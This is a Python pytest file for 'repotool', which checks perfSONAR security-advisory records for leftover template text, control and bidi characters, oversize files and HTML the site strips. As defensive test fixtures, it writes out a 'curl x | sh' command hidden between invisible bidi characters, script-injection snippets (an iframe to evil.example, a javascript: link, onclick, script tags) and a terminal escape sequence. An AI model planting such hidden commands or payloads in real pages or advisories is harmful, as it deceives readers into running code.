"""What no record may carry: the template's text, control and bidi characters,
oversize files, HTML the site would strip; and the hints for near misses."""

from __future__ import annotations

import json
import resource
import subprocess
import time
from pathlib import Path

import pytest

from repotool.errors import RecordInvalidError
from repotool.evr import NEVRA
from repotool.records.advisories import advisory_problems
from repotool.records.authoring import advisory_rows
from repotool.records.loading import load_records
from repotool.records.parsing import parse_advisory, parse_news, parse_release
from tests.conftest import REPOTOOL, make_project, run_repotool
from tests.records.record_texts import GOOD, RELEASE

ADV = "advisories/PSSA-2014-0007.md"


def problems(text: str, parse=parse_advisory, source: str = ADV) -> list[str]:  # type: ignore[no-untyped-def]
    with pytest.raises(RecordInvalidError) as info:
        parse(text, source)
    return [str(p) for p in info.value.problems]


# --- the advisory new template ----------------------------------------------------------


def _fill_packages_only(path: Path) -> None:
    """What the maintainer did in issue 13: only the packages filled in."""
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "  el7: []", "  el7:\n    - {name: perfsonar-toolkit-security, evr: 3.3.2-2.el7}"
    )
    path.write_text(text, encoding="utf-8")


def test_unfinished_advisory_is_refused_by_check_release_and_announce(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", base_url="http://127.0.0.1:9")
    made = run_repotool(project, "advisory", "new", "--year", "2014", "--json", "--quiet")
    assert made.returncode == 0, made.stderr
    path = Path(json.loads(made.stdout)["path"])
    _fill_packages_only(path)

    check = run_repotool(project, "advisory", "check", "--quiet")
    assert check.returncode == 7, check.stderr
    for line in (
        f"{path}:5: title: the title is still the template's text ('FILL IN')",
        f"{path}:9: cves: a security advisory lists no CVE",
        f"{path}:15: affected_releases: the release version is still the template's placeholder",
        f"{path}:17: fixed_in: is empty: the advisory does not say which release ships the fix",
        f"{path}:21: body: the template's text is still here ('FILL IN')",
        f"{path}:25: body: the template's text is still here ('FILL IN')",
        f"{path}:29: body: the template's text is still here ('FILL IN')",
    ):
        assert line in check.stderr, line
    assert "fix: replace it with the advisory's own text" in check.stderr
    assert "cves_none_reason" in check.stderr

    release = run_repotool(project, "release", "--quiet", "--json")
    assert release.returncode == 7, release.stderr
    assert f"{path}:5: title: the title is still the template's text" in release.stderr
    listed = json.loads(release.stdout)["problems"]
    assert {p["field"] for p in listed} >= {"title", "cves", "fixed_in", "body"}
    assert not (project / "public" / "repo").exists()

    announce = run_repotool(project, "announce", "advisory", path.stem, "--quiet")
    assert announce.returncode == 7, announce.stderr
    assert f"{path}:9: cves: a security advisory lists no CVE" in announce.stderr
    outbox = project / ".repotool" / "state" / "outbox"
    assert not outbox.exists() or not list(outbox.glob("*.eml"))


def test_template_sentences_are_refused_without_the_marker() -> None:
    text = GOOD.replace(
        "Something.", "What the flaw is and which toolkit components it touches."
    ).replace("title: A flaw", 'title: "FILL IN: what is wrong, in one line"')
    assert problems(text) == [
        f"{ADV}:5: title: the title is still the template's text ('FILL IN')\n"
        "      fix: write the real title",
        f"{ADV}:21: body: the template's text is still here "
        "('what the flaw is and which toolkit components it touches.')\n"
        "      fix: replace it with the advisory's own text",
    ]
    # prose that only looks alike is not template text
    parse_advisory(GOOD.replace("Something.", "Fill in the form at https://x.org"), ADV)


def test_security_advisory_needs_a_cve_or_the_reason_it_has_none() -> None:
    none = GOOD.replace("cves: [CVE-2014-1234]", "cves: []")
    (msg,) = problems(none)
    assert msg.startswith(f"{ADV}:8: cves: a security advisory lists no CVE\n      fix: list")
    reasoned = none.replace(
        "cves: []", "cves: []\ncves_none_reason: a configuration weakness, no CVE assigned"
    )
    adv = parse_advisory(reasoned, ADV)
    assert adv.cves_none_reason.startswith("a configuration")
    (row,) = advisory_rows([adv])
    assert (row["cves"], row["cves_none_reason"]) == ([], adv.cves_none_reason)
    both = GOOD.replace("cves: [CVE-2014-1234]", "cves: [CVE-2014-1234]\ncves_none_reason: x")
    (msg,) = problems(both)
    assert msg.startswith(f"{ADV}:9: cves_none_reason: the advisory lists CVEs and also says")
    (msg,) = problems(GOOD.replace('fixed_in: "3.3.2"', 'fixed_in: ""'))
    assert msg.startswith(f"{ADV}:17: fixed_in: is empty")


# --- control and bidi characters ------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "name: perfsonar-toolkit-ntp",
            'name: "perfsonar-toolkit-ntp\\n"',
            f"{ADV}:12: packages.el7.0.name: the package name 'perfsonar-toolkit-ntp\\n' holds "
            "the control character U+000A",
        ),
        (
            "name: perfsonar-toolkit-ntp",
            'name: "perfsonar\\u202e-toolkit-ntp"',
            f"{ADV}:12: packages.el7.0.name: the package name 'perfsonar\\u202e-toolkit-ntp' "
            "holds the control character U+202E (RIGHT-TO-LEFT OVERRIDE)",
        ),
        (
            "evr: 3.3.2-1.el7",
            'evr: "3.3.2-1.el7\\x1b[2J"',
            f"{ADV}:12: packages.el7.0.evr: the evr '3.3.2-1.el7\\x1b[2J' holds the control "
            "character U+001B",
        ),
        (
            "  el7:",
            '  "el7\\t":',
            f"{ADV}:12: packages: the target 'el7\\t' holds the control character U+0009",
        ),
        (
            'affected_releases: ["3.3.1"]',
            'affected_releases: ["3.3.1\\n"]',
            f"{ADV}:16: affected_releases: the release version '3.3.1\\n' holds the control "
            "character U+000A",
        ),
        (
            'fixed_in: "3.3.2"',
            'fixed_in: "3.3.2\\r"',
            f"{ADV}:17: fixed_in: the version '3.3.2\\r' holds the control character U+000D",
        ),
        (
            "id: PSSA-2014-0007",
            'id: "PSSA-2014-0007\\n"',
            f"{ADV}:2: id: the advisory id 'PSSA-2014-0007\\n' holds the control character U+000A",
        ),
        (
            "title: A flaw",
            'title: "OpenSSL \\u202eHeartbleed"',
            f"{ADV}:5: title: the title holds the control character U+202E (RIGHT-TO-LEFT "
            "OVERRIDE)",
        ),
        (
            "title: A flaw",
            'title: "two\\nlines"',
            f"{ADV}:5: title: the title holds the control character U+000A",
        ),
    ],
)
def test_control_and_bidi_characters_are_refused_in_names_and_titles(
    old: str, new: str, expected: str
) -> None:
    assert old in GOOD
    msgs = problems(GOOD.replace(old, new))
    assert any(m.startswith(expected) for m in msgs), msgs


def test_bidi_controls_in_a_body_are_refused_at_their_line() -> None:
    text = GOOD.replace("yum update", "yum update \u2066&& curl x | sh\u2069")
    assert problems(text) == [
        f"{ADV}:29: body: the line holds the control character U+2066 (LEFT-TO-RIGHT ISOLATE)\n"
        "      fix: delete the invisible character (a reader, or a shell a command is pasted "
        "into, would see other text than the page shows)"
    ]


def test_line_separators_and_form_feeds_in_a_body_are_found_not_split_away() -> None:
    text = GOOD.replace("Bad.", "Bad.\u2028Worse.\x0c")
    assert [m.split("\n")[0] for m in problems(text)] == [
        f"{ADV}:25: body: the line holds the control character U+2028 (LINE SEPARATOR)"
    ]


def test_release_respin_and_news_names_are_refused_with_control_characters() -> None:
    src = "releases/3.3.2.md"
    msgs = problems(
        RELEASE.replace("version: 3.3.2-2", 'version: "3.3.2-2\\n"'), parse_release, src
    )
    assert msgs[0].startswith(
        f"{src}:5: respins.0.version: the respin version '3.3.2-2\\n' holds the control "
        "character U+000A"
    )
    msgs = problems(
        RELEASE.replace("[PSSA-2014-0007]", '["PSSA-2014-0007\\u202e"]'), parse_release, src
    )
    assert msgs[0].startswith(f"{src}:4: advisories: the advisory id 'PSSA-2014-0007\\u202e'")
    msgs = problems(
        '---\ntitle: "Hi \\u202e"\ndate: 2014-01-28\n---\nHi.\n', parse_news, "news/hi.md"
    )
    assert msgs[0].startswith("news/hi.md:2: title: the title holds the control character U+202E")


# --- size -------------------------------------------------------------------------------


def test_an_oversize_record_is_refused_without_being_read(tmp_path: Path) -> None:
    folder = tmp_path / "advisories"
    folder.mkdir()
    (folder / "PSSA-2014-0007.md").write_text(GOOD, encoding="utf-8")
    big = folder / "PSSA-2014-0008.md"
    # written in pieces, so that this process's peak memory stays below the file's size
    with big.open("w", encoding="utf-8") as f:
        f.write(GOOD.replace("0007", "0008"))
        for _ in range(49):
            f.write("A" * (1024 * 1024))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with pytest.raises(RecordInvalidError) as info:
        load_records(tmp_path)
    assert time.monotonic() - started < 5
    # ru_maxrss is in KiB: far less than the file's 49 MiB was ever held
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20 * 1024
    assert [str(p) for p in info.value.problems] == [
        f"{big}:1: the file is larger than 256 KiB, the limit for a record\n"
        "      fix: keep the record to its text; link large material (logs, captures, "
        "images) under references: instead"
    ]


# --- what the site's sanitiser removes -------------------------------------------------


def test_check_reports_what_the_page_would_lose(tmp_path: Path) -> None:
    from repotool.site.render import markdown_to_html

    project = make_project(tmp_path / "project", base_url="http://127.0.0.1:9")
    news = project / "web/content/news/about.md"
    original = news.read_text(encoding="utf-8")
    extra = (
        '\n\nSee <iframe src="https://evil.example/"></iframe> and <span style="x">this</span>.\n'
        '<a href="javascript:alert(1)" onclick="x()">click</a> ![logo](https://x.org/l.png)\n'
        "\n<script>alert(1)</script>\n"
    )
    news.write_text(original + extra, encoding="utf-8")
    body_lines = original.count("\n") + 1
    done = run_repotool(project, "advisory", "check", "--quiet", "--json")
    assert done.returncode == 7, done.stderr
    got = [(p["line"] - body_lines, p["what"]) for p in json.loads(done.stdout)["problems"]]
    assert got == [
        (2, "the <iframe> element is removed from the page"),
        (2, "the <span> element is removed from the page"),
        (3, "the link to 'javascript:alert(1)' in <a> is removed from the page"),
        (3, "the onclick= attribute of <a> is removed from the page"),
        (3, "the image 'https://x.org/l.png' is removed from the page (records show no images)"),
        (5, "the <script> element is removed from the page with its content"),
    ]
    # and the site's own renderer does take each of them out
    page = str(markdown_to_html(extra))
    for gone in ("<iframe", "<span", "javascript:", "onclick", "<img", "<script", "alert(1)"):
        assert gone not in page
    news.write_text(original, encoding="utf-8")
    assert run_repotool(project, "advisory", "check", "--quiet").returncode == 0


# --- hints -----------------------------------------------------------------------------


def _advisory(evr: str, name: str = "perfsonar-toolkit-ntp") -> object:
    text = GOOD.replace("evr: 3.3.2-1.el7", f"evr: {evr}").replace(
        "name: perfsonar-toolkit-ntp", f"name: {name}"
    )
    return parse_advisory(text, ADV)


def test_an_evr_without_the_dist_tag_gets_the_full_one() -> None:
    held = {NEVRA("perfsonar-toolkit-ntp", 0, "3.3.2", r, "noarch") for r in ("2.el7", "3.el7")}
    (p,) = advisory_problems([_advisory("3.3.2-3")], {"el7": held})  # type: ignore[list-item]
    assert str(p) == (
        f"{ADV}:12: packages.el7.0: perfsonar-toolkit-ntp-3.3.2-3.noarch is not in the el7 "
        "repository: its release lacks the dist tag (3.el7)\n"
        "      fix: write evr: 3.3.2-3.el7"
    )


def test_a_misspelled_package_name_gets_did_you_mean() -> None:
    held = {
        NEVRA("perfsonar-toolkit-ntp", 0, "3.3.2", "1.el7", "noarch"),
        NEVRA("perfsonar-toolkit-security", 0, "3.3.2", "2.el7", "noarch"),
    }
    (p,) = advisory_problems(
        [_advisory("3.3.2-1.el7", "perfsonar-tookit-ntp")],  # type: ignore[list-item]
        {"el7": held},
    )
    assert p.fix == "did you mean perfsonar-toolkit-ntp? correct the name"
    (p,) = advisory_problems(
        [_advisory("3.3.2-1.el7", "openssl")],  # type: ignore[list-item]
        {"el7": held},
    )
    assert p.fix.startswith("correct the name (see specs/)")


def test_advisory_new_refuses_a_malformed_cve_at_once(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", base_url="http://127.0.0.1:9")
    folder = project / "web/content/advisories"
    before = sorted(p.name for p in folder.iterdir())
    for args, said in (
        (["--cve", "CVE-14-1"], "argument --cve: 'CVE-14-1' is not a CVE id: write "),
        (["--affected", "3.3.2\n"], "argument --affected: '3.3.2\\n' is not a release version"),
        (["--title", "a\u202eb"], "argument --title: the title holds the control character"),
    ):
        done = subprocess.run(
            [*REPOTOOL, "advisory", "new", *args],
            cwd=project,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 2, done.stderr
        assert said in done.stderr
    assert sorted(p.name for p in folder.iterdir()) == before


def test_advisory_new_and_check_help_have_examples() -> None:
    for action, words in (
        ("new", ["examples:", "--cve CVE-2014-0160", "FILL IN", "cves_none_reason"]),
        ("check", ["examples:", "repotool advisory check --json", "FILL IN", "256 KiB"]),
    ):
        done = subprocess.run(
            [*REPOTOOL, "advisory", action, "--help"],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 0
        for w in words:
            assert w in done.stdout, (action, w)


def test_release_respin_of_another_version_is_explained(tmp_path: Path) -> None:
    """`--respin 3.3.2-3` names the configured version and is taken as respin 3 (see
    tests/test_release_respin.py); a respin of another version, or no number at all,
    is refused before any work, in a project copy (never the checkout itself)."""
    project = make_project(tmp_path / "p", base_url="http://127.0.0.1:9")
    for value, said in (
        (
            "3.3.1-2",
            "--respin 3.3.1-2 is a respin of 3.3.1, but the version being released is 3.3.2",
        ),
        ("x", "--respin 'x' is not a respin: write its number (--respin 2) or its version"),
    ):
        done = subprocess.run(
            [*REPOTOOL, "release", "--respin", value],
            capture_output=True,
            text=True,
            timeout=60,
            cwd=project,
        )
        assert done.returncode == 2, done.stderr
        assert said in " ".join(done.stderr.split())
    assert not (project / ".repotool").exists()
